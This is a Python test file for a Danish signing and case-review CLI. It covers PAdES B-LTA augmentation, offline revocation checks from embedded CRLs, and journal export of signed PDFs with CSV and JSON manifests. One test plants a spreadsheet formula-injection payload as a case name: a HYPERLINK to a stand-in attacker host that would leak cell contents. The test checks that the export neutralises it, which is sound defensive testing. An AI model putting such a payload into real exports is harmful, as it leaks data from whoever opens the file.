"""`udsat ltv`, `udsat verify` with PAdES levels, `udsat journal export`, and ingest's view of
an augmented file (the same signed document)."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import json

import pytest

from tests.conftest import PASSPHRASE
from tests.reports.pki_server import organisation_pki
from udsat_desktop.cli import main as cli
from udsat_desktop.core.status import Role
from udsat_desktop.flows.signing import sign_ready
from udsat_desktop.platform.checklists import bundled_library
from udsat_desktop.reports import ltv
from udsat_desktop.reports.signing import Identity, Verdict, add_to_trust_list, render_and_sign
from udsat_desktop.store import audit
from udsat_desktop.store.demo_reviews import build_demo_reviews
from udsat_desktop.store.reviews import get_review, summary_of
from udsat_desktop.sync.roster.pins import trust_dir

LIB = bundled_library()
KEY_PASS = "nøgle-kode-1"
WHO = Identity("Karen Holm", "BIF", "KH", "Gennemgår sager")


def run(capsys, paths, *args: str) -> tuple[int, str, str]:
    code = cli([*args, "--data-dir", str(paths.data)])
    out, err = capsys.readouterr()
    return code, out, err


@pytest.fixture
def summary(demo_db, profile):
    build_demo_reviews(demo_db, 2, profile.user_id, LIB, seed=5)
    rid = demo_db.reader().execute("SELECT id FROM review WHERE status = 'klar'").fetchone()[0]
    review = get_review(demo_db, rid)
    return summary_of(demo_db, rid, LIB.get(review.template_id, review.template_version))


def test_ltv_makes_b_lta_and_verify_reports_it(capsys, paths, summary, tmp_path, monkeypatch):
    monkeypatch.setenv("UDSAT_PASSPHRASE", PASSPHRASE)
    target = tmp_path / "sammenfatning.pdf"
    with organisation_pki(tmp_path) as pki:
        signed = render_and_sign(summary, pki.p12, pki.p12_passphrase, WHO)
        target.write_bytes(signed)
        add_to_trust_list(trust_dir(paths), pki.root, "testkommune-ca")
        code, out, err = run(capsys, paths, "ltv", str(target), "--tsa", pki.tsa_url, "--json")
    assert code == 0, err
    assert json.loads(out)["files"][0]["level"] == "B-LTA"
    assert target.read_bytes().startswith(signed)
    code, out, _err = run(capsys, paths, "verify", str(target), "--json")
    assert code == 0
    [sig] = json.loads(out)["files"][0]["signatures"]
    assert sig["level"] == "B-LTA" and sig["archive_timestamp"]
    assert sig["verdict"] == Verdict.TRUSTED.value
    code, out, _err = run(capsys, paths, "verify", str(target))
    assert "PAdES B-LTA" in out and "arkivtidsstemplet" in out

    # ingest: the record names the signed revision (as outbox records do); the augmented file
    # is the same document
    from udsat_desktop.reports.verify import TrustSet
    from udsat_desktop.sync import ingest as engine

    engine._verdict_init(TrustSet.of([pki.root]))
    try:
        assert (
            engine._verdict((target.read_bytes(), ltv.identity_digest(signed)))[0]
            == Verdict.TRUSTED.name
        )
        assert engine._verdict((target.read_bytes(), "0" * 64))[0] == Verdict.MODIFIED.name
    finally:
        engine._TRUSTED[:] = []


def _with_crl(pdf: bytes, crl: bytes) -> bytes:
    """The file with one more revision: a CRL added to its document security store, as any
    PAdES tool renewing the file's validation data would add the CA's newest list."""
    from asn1crypto import crl as asn1_crl
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    from pyhanko.sign.validation.dss import DocumentSecurityStore

    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    DocumentSecurityStore.supply_dss_in_writer(
        writer, None, crls=[asn1_crl.CertificateList.load(crl)]
    )
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


@pytest.mark.parametrize("level", ["B-LT", "B-LTA"])
def test_verify_says_revoked_when_the_files_own_crl_revokes_the_signer(
    capsys, paths, summary, tmp_path, level
):
    """Offline, `udsat verify` reads the CRL the file carries: the CA revoked the signer's
    certificate (key compromise, from before the signature), the file holds that CRL, and the
    signature is reported as a revoked signer's, with the reason, not as trusted."""
    target = tmp_path / "sammenfatning.pdf"
    with organisation_pki(tmp_path) as pki:
        tsa = pki.tsa_url if level == "B-LTA" else None
        compromised = dt.datetime.now(dt.UTC) - dt.timedelta(minutes=1)
        signed = render_and_sign(summary, pki.p12, pki.p12_passphrase, WHO, timestamp_url=tsa)
        pki.revoke_signer(since=compromised)
        revoked_crl = pki.state["crl"]
        add_to_trust_list(trust_dir(paths), pki.root, "testkommune-ca")
        pki.set_online(False)
    # the file as signed (its CRL from signing time, the signer not listed): trusted
    target.write_bytes(signed)
    code, out, _err = run(capsys, paths, "verify", str(target), "--json")
    [sig] = json.loads(out)["files"][0]["signatures"]
    assert (code, sig["verdict"], sig["level"]) == (0, Verdict.TRUSTED.value, level)
    # the same file carrying the CA's newer CRL, which lists the signer
    target.write_bytes(_with_crl(signed, revoked_crl))
    code, out, _err = run(capsys, paths, "verify", str(target), "--json")
    [sig] = json.loads(out)["files"][0]["signatures"]
    assert sig["verdict"] == Verdict.REVOKED_SIGNER.value, sig
    assert sig["validation_data"] == "embedded" and sig["trust_path"] is None
    assert "tilbagekaldt" in sig["reason"] and sig["level"] == level, sig
    assert code == 0  # docs/cli.md: exit 1 only for modified, unsigned or unchecked files
    code, out, _err = run(capsys, paths, "verify", str(target))
    assert "intakt, tilbagekaldt underskriver" in out
    assert "filens valideringsdata viser, at certifikatet er tilbagekaldt" in out


def test_ltv_refuses_a_self_issued_key_plainly(capsys, paths, summary, tmp_path):
    from udsat_desktop.reports.signing import create_key

    key = tmp_path / "k.p12"
    create_key(key, WHO, "kode-12345")
    target = tmp_path / "s.pdf"
    target.write_bytes(render_and_sign(summary, key, "kode-12345", WHO))
    before = target.read_bytes()
    code, out, _err = run(capsys, paths, "ltv", str(target))
    assert code == 1
    assert "selvudstedt" in out and "lang sigt" in out and "Traceback" not in out
    assert target.read_bytes() == before


def test_journal_export_writes_pdfs_and_manifests_and_audits_each_case(
    capsys, demo_db, profile, paths, tmp_path, monkeypatch
):
    monkeypatch.setenv("UDSAT_PASSPHRASE", PASSPHRASE)
    build_demo_reviews(demo_db, 3, profile.user_id, LIB, seed=71, all_ready=True)
    items = sign_ready(demo_db, paths, profile, LIB, KEY_PASS, workers=1)
    assert items
    out_dir = tmp_path / "journal"
    code, out, err = run(capsys, paths, "journal", "export", "--out", str(out_dir), "--json")
    assert code == 0, err
    result = json.loads(out)
    assert result["documents"] == len(items) and result["missing"] == []
    rows = list(
        csv.DictReader(
            (out_dir / "manifest.csv").read_text(encoding="utf-8-sig").splitlines(),
            delimiter=";",
        )
    )
    manifest = json.loads((out_dir / "manifest.json").read_text(encoding="utf-8"))
    assert len(rows) == len(manifest["documents"]) == len(items)
    cases = {
        r[0]: (r[1], r[2])
        for r in demo_db.reader().execute('SELECT case_key, cpr, name FROM "case"')
    }
    for row, doc in zip(rows, manifest["documents"], strict=True):
        assert row == doc
        cpr, name = cases[row["sagsnoegle"]]
        assert row["cpr"] == cpr and row["navn"] == name  # in full: the case system files by it
        pdf = (out_dir / row["fil"]).read_bytes()
        assert hashlib.sha256(pdf).hexdigest() == row["sha256"]
        assert row["verifikation"] == Verdict.TRUSTED.value
        assert row["pades_niveau"] == "B-B" and row["pdfa"] == "ja"
        assert row["dokumenttitel"] == f"Gennemgang af sag {row['sagsnoegle']}"
        assert "Karen Holm" in row["underskrivere"]
    # audited per case, and so in the citizen's log
    case_id = (
        demo_db.reader()
        .execute('SELECT id FROM "case" WHERE case_key = ?', (rows[0]["sagsnoegle"],))
        .fetchone()[0]
    )
    logged = [e for e in audit.citizen_log(demo_db, case_id) if e.action == "export"]
    assert logged and logged[-1].details["kind"] == "journalisering"
    # --since after every review date exports nothing
    code, out, _err = run(
        capsys,
        paths,
        "journal",
        "export",
        "--out",
        str(tmp_path / "tom"),
        "--since",
        "2999-01-01",
        "--json",
    )
    assert code == 0 and json.loads(out)["documents"] == 0
    code, _out, err = run(
        capsys, paths, "journal", "export", "--out", str(tmp_path / "x"), "--since", "i går"
    )
    assert code == 2 and "Ugyldig dato" in err


def test_journal_export_is_for_coordinators(capsys, paths, tmp_path, monkeypatch):
    from udsat_desktop.core.status import Organisation
    from udsat_desktop.platform.paths import resolve
    from udsat_desktop.store.lifecycle import initialise

    rpaths = resolve(paths.data.parent / "reviewer").ensure()
    db, _profile = initialise(rpaths, PASSPHRASE, "Ole Krog", "OK", Organisation.SOF, Role.REVIEWER)
    db.close()
    monkeypatch.setenv("UDSAT_PASSPHRASE", PASSPHRASE)
    code, _out, err = run(capsys, rpaths, "journal", "export", "--out", str(tmp_path / "j"))
    assert code == 2 and "koordinator" in err.lower()
    assert not (tmp_path / "j").exists()


def test_journal_manifest_csv_keeps_a_formula_in_a_name_as_text(
    capsys, demo_db, profile, paths, tmp_path, monkeypatch
):
    monkeypatch.setenv("UDSAT_PASSPHRASE", PASSPHRASE)
    build_demo_reviews(demo_db, 3, profile.user_id, LIB, seed=71, all_ready=True)
    assert sign_ready(demo_db, paths, profile, LIB, KEY_PASS, workers=1)
    hostile = ['=HYPERLINK("http://evil.example/?x="&A1', "@SUM(A1:A9)"]
    keys = [
        r[0]
        for r in demo_db.reader().execute(
            'SELECT DISTINCT c.case_key FROM review r JOIN "case" c ON c.id = r.case_id '
            "ORDER BY c.case_key"
        )
    ]
    names = dict(zip(keys, [*hostile, "Åse Ærø"], strict=False))
    for key, name in names.items():
        demo_db.reader().execute('UPDATE "case" SET name = ? WHERE case_key = ?', (name, key))
    out_dir = tmp_path / "journal"
    code, _out, err = run(capsys, paths, "journal", "export", "--out", str(out_dir))
    assert code == 0, err
    rows = list(
        csv.DictReader(
            (out_dir / "manifest.csv").read_text(encoding="utf-8-sig").splitlines(),
            delimiter=";",
        )
    )
    documents = json.loads((out_dir / "manifest.json").read_text(encoding="utf-8"))["documents"]
    seen = set()
    for row, doc in zip(rows, documents, strict=True):
        name = names[row["sagsnoegle"]]
        assert doc["navn"] == name  # JSON is data, not a spreadsheet: as it is
        assert row["navn"] == ("'" + name if name in hostile else name)
        assert {k: v for k, v in row.items() if k != "navn"} == {
            k: v for k, v in doc.items() if k != "navn"
        }
        seen.add(name)
    assert set(hostile) <= seen and "Åse Ærø" in seen
